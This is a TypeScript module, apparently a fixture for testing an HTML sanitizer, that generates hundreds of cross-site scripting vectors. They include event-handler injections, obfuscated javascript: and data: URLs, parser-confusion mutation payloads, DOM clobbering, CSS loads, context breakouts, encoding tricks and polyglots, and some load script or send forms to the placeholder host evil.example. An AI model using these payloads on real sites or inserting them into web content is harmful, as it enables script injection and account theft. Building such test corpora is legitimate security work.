/**
 * Texts that want to become code: put together from parts, each different from all others, by technique. Whatever runs counts
 * itself in `__pwned` of the window on top; whatever asks for something asks `evil.example`.
 */
const RUN = 'top.__pwned++'
const ABROAD = 'https://evil.example'
const CALL = `javascript:${RUN}`
const IMG = `<img src=x onerror=${RUN}>`

const entities = (text: string) => Array.from(text, (c) => `&#${c.charCodeAt(0)};`).join('')
const hexEntities = (text: string) => Array.from(text, (c) => `&#x${c.charCodeAt(0).toString(16)}`).join(';') + ';'
const percent = (text: string) => Array.from(text, (c) => `%${c.charCodeAt(0).toString(16)}`).join('')
const unicode = (text: string) => Array.from(text, (c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')
const wide = (text: string) => Array.from(text, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')

/** Elements that run something without anybody's help, or as soon as they are touched. */
const handlers = [
  ...['load', 'error', 'focus', 'click', 'toggle', 'pointerover', 'animationstart', 'beforetoggle'].flatMap((event) =>
    [
      ['svg', ''],
      ['body', ''],
      ['img', 'src=x'],
      ['details', 'open'],
      ['div', 'tabindex=0 autofocus'],
      ['form', 'autofocus'],
    ].map(([tag, rest]) => `<${tag} ${rest} on${event}="${RUN}">`),
  ),
  ...['input', 'select', 'textarea', 'button', 'a href=#'].map((tag) => `<${tag} autofocus onfocus=${RUN}>`),
  ...['video', 'audio'].map((tag) => `<${tag}><source onerror=${RUN}></${tag}>`),
  `<video src=x onerror=${RUN}></video>`,
  `<video poster=x onloadstart=${RUN} src=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<iframe src=about:blank onload=${RUN}></iframe>`,
  `<object data=x onerror=${RUN}></object>`,
  `<embed src=x onerror=${RUN}>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<script src=data:, onload=${RUN}></script>`,
  `<script src=x onerror=${RUN}></script>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<marquee loop=1 width=0 onfinish=${RUN}>a</marquee>`,
  `<picture><source srcset=x><img onerror=${RUN}></picture>`,
  `<img srcset=",,,x" onerror=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<svg><image href=x onerror=${RUN} /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><discard onbegin=${RUN} /></svg>`,
  `<div contenteditable onbeforeinput=${RUN}>a</div>`,
  `<div popover id=pop onbeforetoggle=${RUN}>a</div><button popovertarget=pop>b</button>`,
  `<p style="animation:spin 1ms" onanimationend=${RUN}>a</p>`,
  `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${RUN}>a</p>`,
  `<div onwheel=${RUN} onscrollend=${RUN} oncopy=${RUN}>a</div>`,
]

/** One handler, in every spelling a parser forgives. */
const spellings = [
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\tsrc=x\tonerror=${RUN}>`,
  `<img\nsrc=x\nonerror\n=\n${RUN}>`,
  `<img\fsrc=x\fonerror=${RUN}>`,
  `<img src=x onerror='${RUN}'>`,
  `<img src=x onerror=\`${RUN}\`>`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x onerror=${entities(RUN)}>`,
  `<img src=x onerror="${hexEntities(RUN)}">`,
  `<img src=x onerror="&#0000116op.__pwned++">`,
  `<img src=x onerror="to&Tab;p.__pwned++;${RUN}">`,
  `<img src=x onerror="top['__pw'+'ned']++">`,
  `<img src=x onerror="${unicode('top')}.__pwned++">`,
  `<img src=x one\0rror=${RUN}>`,
  `<img src=x onerror=${RUN}//`,
  `<img src=x onerror=${RUN} <p>a</p>`,
  `<<img src=x onerror=${RUN}>`,
  `<img <img src=x onerror=${RUN}>>`,
  `<img src=x:x onerror=${RUN}>`,
  `<img src=x a="onerror=" onerror=${RUN}>`,
  `<img src=x alt=\`><p title="\`onerror=${RUN}">`,
  `<x/><img src=x onerror=${RUN}>`,
  `<custom-element onclick=${RUN} tabindex=1>a</custom-element>`,
  `<p is=x-y onclick=${RUN}>a</p>`,
]

/** `javascript:` and its relatives as addresses are read: blanks, controls, entities and case do not matter. */
const schemes = [
  CALL,
  `JaVaScRiPt:${RUN}`,
  ` ${CALL}`,
  `\u0001${CALL}`,
  `\u00a0${CALL}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `java&NewLine;script&#58;${RUN}`,
  `${entities('javascript:')}${RUN}`,
  `${hexEntities('javascript:')}${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript&#x3a${RUN}`,
  `javascript://a%0a${RUN}`,
  `javascript:/*--><svg>*/${RUN}`,
  `javascript:void(${RUN})`,
  `javascript:${percent(RUN)}`,
  `view-source:${CALL}`,
  `feed:${CALL}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:${CALL}`,
]
const inLinks = schemes.map((address) => `<a href="${address}">a</a>`)
const carriers = [
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>a</button></form>`,
  (address: string) => `<form><button formaction="${address}">a</button></form>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
  (address: string) => `<math><mtext href="${address}">a</mtext></math>`,
  (address: string) => `<map><area shape=default href="${address}"></map>`,
  (address: string) => `<svg><use href="${address}#a" /></svg>`,
  (address: string) => `<svg><a><animate attributeName=href values="${address}" /><text y=9>a</text></a></svg>`,
]
const elsewhere = carriers.flatMap((carry) => [0, 5, 22, 24].map((n) => carry(schemes[n] ?? CALL)))

/** Read one way when they are cleaned and another when they are read again: foreign namespaces, tables, raw text. */
const confused = [
  ...['svg', 'math'].flatMap((foreign) =>
    ['style', 'title', 'noscript', 'textarea', 'xmp', 'iframe'].map(
      (raw) => `<${foreign}><${raw}><a id="</${raw}>${IMG}"></a></${raw}></${foreign}>`,
    ),
  ),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><svg><mtext><style><path id="</style>${IMG}">`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><mi><table><mi><style><a title="</style>${IMG}"></a></style></mi></table></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><foreignObject><math><mi><style>${IMG}</style></mi></math></foreignObject></svg>`,
  `<svg><desc><noembed></desc></noembed>${IMG}</svg>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<table><a href="${CALL}"><tr><td>${IMG}</table>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`,
  `<select><iframe></select>${IMG}</iframe>`,
  `<p><b><a><p><a>${IMG}</b></p>`,
  `<template><p>${IMG}</p></template>`,
  `<div><template shadowrootmode=open>${IMG}</template></div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript>${IMG}"></noscript>`,
  `<noembed><p title="</noembed>${IMG}"></noembed>`,
  `<noframes><p title="</noframes>${IMG}"></noframes>`,
  `<xmp><p title="</xmp>${IMG}"></xmp>`,
  `<title><p title="</title>${IMG}"></title>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<!--[if true]>${IMG}<![endif]-->`,
  `<?xml version="1.0"?><?x a="${IMG}"?>`,
  `<!doctype a [<!entity b "${IMG}">]>&b;`,
  `</ img src=x onerror=${RUN}>${IMG}`,
]

/** Whole documents, and what changes the one around. */
const documents = [
  `<script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src=${ABROAD}/a.js></script>`,
  `<script src=//evil.example/b.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}" /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<iframe srcdoc="${IMG}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="${entities(IMG)}"></iframe>`,
  `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="${IMG}"></iframe>`,
  `<iframe src=${ABROAD}/frame></iframe>`,
  `<meta http-equiv=refresh content="0;url=${CALL}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,${IMG}">`,
  `<meta http-equiv=refresh content="0;url=${ABROAD}/away">`,
  `<meta http-equiv=content-security-policy content="default-src *">`,
  `<base href=${ABROAD}/><img src=picture>`,
  `<base target=_parent><a href="${CALL}">a</a>`,
  `<link rel=stylesheet href=${ABROAD}/a.css>`,
  `<link rel=import href=${ABROAD}/a.html>`,
  `<link rel=modulepreload href=${ABROAD}/c.js>`,
  `<link rel=prefetch href=${ABROAD}/ahead>`,
  `<img src=${ABROAD}/pixel>`,
  `<video src=${ABROAD}/film poster=${ABROAD}/poster></video>`,
  `<form action=${ABROAD}/form><input name=a value=b><button>a</button></form>`,
  `<button form=root formaction=${ABROAD}/button formmethod=post>a</button>`,
  `<object data=${ABROAD}/object></object>`,
  `<applet code=a codebase=${ABROAD}/applet></applet>`,
  `<p background=${ABROAD}/table><table background=${ABROAD}/ground></table></p>`,
  `<svg><image href=${ABROAD}/image /><use href=${ABROAD}/use#a /></svg>`,
]

/** Styles that ask or run, where any browser ever let them. */
const styles = [
  `<p style="background:url(${ABROAD}/p)">a</p>`,
  `<p style="background:url('${CALL}')">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<p style="wid/**/th:ex\\70ression(${RUN})">a</p>`,
  `<p style="behavior:url(${ABROAD}/p.htc);-moz-binding:url(${ABROAD}/p.xml#a)">a</p>`,
  `<style>@import '${ABROAD}/import.css';</style>`,
  `<style>p{background:url(${ABROAD}/rule)}</style><p>a</p>`,
  `<style>@font-face{font-family:a;src:url(${ABROAD}/font)}p{font-family:a}</style><p>a</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">tudo</p>`,
]

/** Names that would stand where the page's own should. */
const clobbering = [
  ...['page-data', 'root', 'body', 'location', 'trustedTypes', 'localStorage', 'cookie'].map(
    (name) => `<a id="${name}" name="${name}" href="${CALL}">a</a>`,
  ),
  `<form id=document><input name=getElementById><input name=createElement></form>`,
  `<form name=attributes><input name=nodeName><img name=parentNode></form>`,
  `<iframe name=navigator srcdoc="<a id=serviceWorker href=${ABROAD}>"></iframe>`,
  `<img name=currentScript src=${ABROAD}/script><a id=x></a><a id=x name=y href=${ABROAD}></a>`,
  `<a id=__proto__><a id=constructor name=prototype href="${CALL}">a</a>`,
]

/** For texts that end up inside something: an attribute, a script, a style, a template, another language. */
const breakouts = [
  ...['"', "'", '`', '">', "'>", '`>', '"/>', '">-->', '--></', ']]>', '*/', '{{', '\\"', '%22>'].map(
    (end) => `${end}${IMG}`,
  ),
  ...['script', 'style', 'title', 'textarea', 'noscript', 'iframe', 'template', 'select', 'option', 'xmp'].map(
    (tag) => `</${tag}>${IMG}`,
  ),
  `" onfocus=${RUN} autofocus tabindex=1 x="`,
  `' onpointerover=${RUN} x='`,
  `";${RUN}//`,
  `';${RUN}//`,
  `\\';${RUN}//`,
  `</script><script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%- ${RUN} %>`,
  `[a](${CALL})`,
  `![a](x"onerror="${RUN})`,
  `[a]: <${CALL}>`,
  `<${CALL}>`,
  '```html\n' + IMG + '\n```',
]

/** Signs that look like others, or become them when somebody decodes once too often. */
const signs = [
  entities(IMG),
  hexEntities(IMG),
  entities(entities(IMG)),
  percent(IMG),
  percent(percent(IMG)),
  unicode(IMG),
  wide(`<img src=x onerror=${RUN}>`),
  IMG.replace('<', '\u02c2').replace('>', '\u02c3'),
  IMG.replace('<', '\u2039').replace('>', '\u203a'),
  IMG.replace('<', '+ADw-').replace('>', '+AD4-'),
  IMG.replace('i', '\u0131'),
  `<\u017fcript>${RUN}</\u017fcript>`,
  `<a href="javas\u200bcript:${RUN}">a</a>`,
  `<a href="\u202ejavascript:${RUN}">a</a>`,
  `<a href="j\u0430vascript:${RUN}">a</a>`,
  `\u00bcimg src=x onerror=${RUN}\u00be`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
]

/** Several at once, for whichever place they land in. */
const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `'"--></style></script><svg onload=${RUN}>`,
  `"'></title></textarea><details open ontoggle=${RUN}>`,
  `*/${RUN}/*</script><img src=x onerror=${RUN}>//`,
  `${CALL}//"><a href="${CALL}">a</a>`,
  `<p title='"><img src=x onerror=${RUN}>' style="x:'</style>${IMG}'">a</p>`,
]

export const vectors: readonly string[] = [
  ...new Set([
    ...handlers,
    ...spellings,
    ...inLinks,
    ...elsewhere,
    ...confused,
    ...documents,
    ...styles,
    ...clobbering,
    ...breakouts,
    ...signs,
    ...polyglots,
  ]),
]

/** The plainest of them: runs wherever nothing holds it. */
export const PLAIN = IMG
